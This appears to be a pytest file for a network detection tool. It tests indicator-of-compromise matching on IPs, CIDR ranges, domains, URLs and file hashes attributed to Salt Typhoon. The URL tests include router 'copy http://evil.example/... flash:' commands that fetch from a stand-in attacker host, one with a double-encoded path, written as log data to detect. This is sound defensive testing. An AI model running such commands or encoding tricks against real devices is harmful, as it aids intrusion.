"""IOC matching through the real runner on DuckDB: a positive and a negative case for every indicator kind."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pyarrow as pa
import pytest

from carrierwatch.detect.runner import Assets, register_inputs, run_detections
from carrierwatch.engine.duck import DuckEngine
from carrierwatch.findings import Finding, InputAccount, Severity
from carrierwatch.intel import warninglists
from carrierwatch.intel.indicators import Indicator
from carrierwatch.intel.stix_reader import read_stix_indicators
from carrierwatch.telemetry.schema import AAA, DNS, FILES, FLOWS
from carrierwatch.workspace import Allowlists

from .helpers import FIX

T0 = datetime(2026, 11, 16, 2, 0, tzinfo=UTC)
DEV = "10.0.1.1"


def _table(schema: pa.Schema, rows: list[dict[str, Any]], src: str) -> pa.Table:
    cols: dict[str, list[Any]] = {n: [] for n in schema.names}
    for i, r in enumerate(rows, start=1):
        base = {"src_file": src, "src_line": i, "ts": T0 + timedelta(seconds=i), "raw": f"record {i}"}
        for n in schema.names:
            cols[n].append(r.get(n, base.get(n)))
    return pa.table(cols, schema=schema)


def run(tables: dict[str, pa.Table], indicators: list[Indicator]) -> list[Finding]:
    eng = DuckEngine()
    register_inputs(eng, {}, tables)
    assets = Assets()
    assets.add("pe1-nyc", ips=[DEV])
    try:
        found = run_detections(eng, allow=Allowlists(), assets=assets, indicators=indicators, rules=[])
    finally:
        eng.close()
    return [f for f in found if f.rule_id.startswith("CW-IOC")]


def ind(kind: str, value: str, **kw: Any) -> Indicator:
    return Indicator(id="indicator--1", kind=kind, value=value, source="feed.json", actors=["Salt Typhoon"], **kw)


def flow_to(ip: str) -> dict[str, pa.Table]:
    return {"flows": _table(FLOWS, [{"source_ip": DEV, "destination_ip": ip, "destination_port": 443}], "f.csv")}


@pytest.mark.parametrize(("kind", "value", "seen", "hit"), [
    ("ipv6", "2001:41d0:700:65dc::f656:929f", "2001:41d0:700:65dc::f656:929f", True),
    ("ipv6", "2001:41d0:700:65dc::f656:929f", "2001:41d0:700:65dc::f656:9290", False),
    ("cidr6", "2001:db8:45:61::/64", "2001:db8:45:61:ffff:ffff:ffff:ffff", True),
    ("cidr6", "2001:db8:45:61::/64", "2001:db8:45:62::", False),
    ("cidr6", "2001:db8::/31", "2001:db9:ffff::1", True),  # range crosses the low half: high half decides
    ("cidr6", "8000::/1", "ffff::1", True),  # sign-flip: the top half of the space
    ("cidr6", "8000::/1", "7fff::1", False),
    ("cidr4", "45.0.0.0/8", "45.61.134.134", True),
    ("cidr4", "45.0.0.0/8", "46.0.0.1", False),
])
def test_ip_kinds(kind: str, value: str, seen: str, hit: bool) -> None:
    found = run(flow_to(seen), [ind(kind, value)])
    assert bool(found) is hit, found
    if hit:
        assert found[0].rule_id == "CW-IOC-IP" and found[0].actors == ["Salt Typhoon"]
        assert found[0].extra["fields"] == ["flows.destination_ip"] and found[0].evidence[0].source == "f.csv"


@pytest.mark.parametrize(("indicator", "query", "hit"), [
    ("evil.example", "evil.example", True), ("evil.example", "a.b.EVIL.example", True),
    ("evil.example", "notevil.example", False), ("evil.example", "evil.example.com", False),
])
def test_domain_with_subdomains(indicator: str, query: str, hit: bool) -> None:
    dns = _table(DNS, [{"host_name": "resolver1", "source_ip": DEV, "dns_question_name": query}], "dns.log")
    found = run({"dns": dns}, [ind("domain", indicator)])
    assert bool(found) is hit
    if hit:
        assert found[0].rule_id == "CW-IOC-DOMAIN" and found[0].extra["fields"] == ["dns.question.name"]


@pytest.mark.parametrize(("command", "hit"), [
    ("copy http://EVIL.example:80/%2577ebui_wsma_Http flash:", True),  # double-encoded path, host case, port
    ("copy http://evil.example/%77ebui_wsma_Http flash:", True),
    ("copy http://evil.example/other flash:", False),
])
def test_url_normalised_double_decoding(command: str, hit: bool) -> None:
    aaa = _table(AAA, [{"host_ip": DEV, "user_name": "x", "command": command, "raw": f"cmd={command}"}], "acct.log")
    found = run({"aaa": aaa}, [ind("url", "http://evil.example/webui_wsma_Http")])
    assert bool(found) is hit
    if hit:
        assert found[0].rule_id == "CW-IOC-URL" and found[0].device == "pe1-nyc"


def _cisa_indicators() -> list[Indicator]:
    return read_stix_indicators(FIX / "cisa_style_bundle.json", InputAccount("b", "stix"), display_path="cisa.json",
                                now=T0).indicators


CMD1_SHA256 = "f2bbba1ea0f34b262f158ff31e00d39d89bbc471d04e8fca60a034cabe18e4f4"


@pytest.mark.parametrize(("row", "hit"), [
    ({"file_name": "cmd1", "file_hash_sha256": CMD1_SHA256.upper()}, True),
    ({"file_name": "cmd1", "file_hash_md5": "0123456789ABCDEF0123456789ABCDEF"}, True),
    ({"file_name": "cmd1", "file_hash_sha1": "0123456789abcdef0123456789abcdef01234567"}, True),
    ({"file_name": "cmd1", "file_hash_ssdeep": "3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C"}, True),
    ({"file_name": "renamed", "file_hash_md5": "0123456789abcdef0123456789abcdef"}, False),  # hash without name
    ({"file_name": "cmd1", "file_hash_md5": "ffffffffffffffffffffffffffffffff"}, False),  # name without hash
    ({"file_name": "cmd3", "file_hash_md5": "0123456789abcdef0123456789abcdef"}, False),  # other group's name
])
def test_cisa_compound_hash_and_name(row: dict[str, Any], hit: bool) -> None:
    files = _table(FILES, [{"host_name": "pe1-nyc", **row}], "files.csv")
    found = run({"files": files}, _cisa_indicators())
    assert bool(found) is hit, found
    if hit:
        f = found[0]
        assert f.rule_id == "CW-IOC-FILE" and f.device == "pe1-nyc" and f.actors == ["Salt Typhoon"]
        assert f.attack == ["T1569"] and f.extra["feeds"] == ["cisa.json"]


def test_cisa_bundle_ip_indicators_match_flows() -> None:
    found = run(flow_to("45.125.67.144"), _cisa_indicators())
    assert [f.extra["indicator"] for f in found] == ["45.125.67.144"]
    assert run(flow_to("45.125.67.143"), _cisa_indicators()) == []  # superseded value


def test_expired_indicator_does_not_match() -> None:
    assert run(flow_to("45.61.134.134"), [ind("ipv4", "45.61.134.134", valid_until=T0 - timedelta(days=1))]) == []
    assert run(flow_to("45.61.134.134"), [ind("ipv4", "45.61.134.134", valid_until=datetime(2999, 1, 1, tzinfo=UTC))])


def test_warning_listed_match_is_suppressed_but_visible() -> None:
    benign = ind("ipv4", "8.8.8.8")
    assert warninglists.flag([benign]) == {"public-dns-v4": 1}
    found = run(flow_to("8.8.8.8"), [benign])
    assert [(f.rule_id, f.severity) for f in found] == [("CW-IOC-SUPPRESSED", Severity.INFO)]
    assert found[0].extra["suppressed_by"] == "public-dns-v4" and found[0].extra["would_be"] == "CW-IOC-IP"
    evil = ind("ipv4", "45.61.134.134")
    assert warninglists.flag([evil]) == {}
    assert [f.rule_id for f in run(flow_to("45.61.134.134"), [evil])] == ["CW-IOC-IP"]
